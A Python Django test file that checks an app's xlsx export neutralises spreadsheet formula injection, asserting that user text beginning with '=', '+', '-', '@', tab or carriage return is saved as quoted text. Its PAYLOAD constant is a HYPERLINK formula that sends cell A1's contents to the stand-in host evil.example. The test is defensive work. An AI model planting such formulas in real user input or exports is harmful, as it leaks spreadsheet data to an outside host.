"""F6: user text that starts like a formula is exported as inert text in every xlsx."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from baozheng.lib.office import new_workbook, table_sheet, workbook_bytes
from baozheng.tasks.models import ServiceRequest
from baozheng.testing import BaozhengTestCase
from tests.tasks.test_public_form import URL as PUBLIC_URL
from tests.tasks.test_public_form import form

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


class FormulaInjectionTests(BaozhengTestCase):
    def test_f6_an_anonymous_request_starting_with_equals_is_exported_as_text(self):
        response = self.client.post(
            PUBLIC_URL, form(county=self.wancheng_unit.pk, description=PAYLOAD)
        )
        self.assertEqual(response.status_code, 200)
        self.assertTrue(ServiceRequest.objects.filter(description=PAYLOAD).exists())
        self.login(self.dispatch)
        export = self.client.get(reverse("tasks-requests"), {"export": "xlsx"})
        found = [c for c in cells(export.content) if c.value == PAYLOAD]
        self.assertEqual(len(found), 1)
        self.assertEqual((found[0].data_type, found[0].quotePrefix), ("s", True))

    def test_f6_every_dangerous_start_is_neutralised_and_plain_text_and_numbers_are_not(self):
        wb = new_workbook()
        starts = ["=1+2", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]
        table_sheet(wb, "表", ["甲"] * 8, [[*starts, "正常文字", 3.5]])
        by_value = {c.value: c for c in cells(workbook_bytes(wb)) if c.row == 3}
        for text in starts:
            with self.subTest(text=text):
                self.assertEqual(
                    (by_value[text].data_type, by_value[text].quotePrefix), ("s", True)
                )
        self.assertFalse(by_value["正常文字"].quotePrefix)
        self.assertEqual(by_value[3.5].data_type, "n")
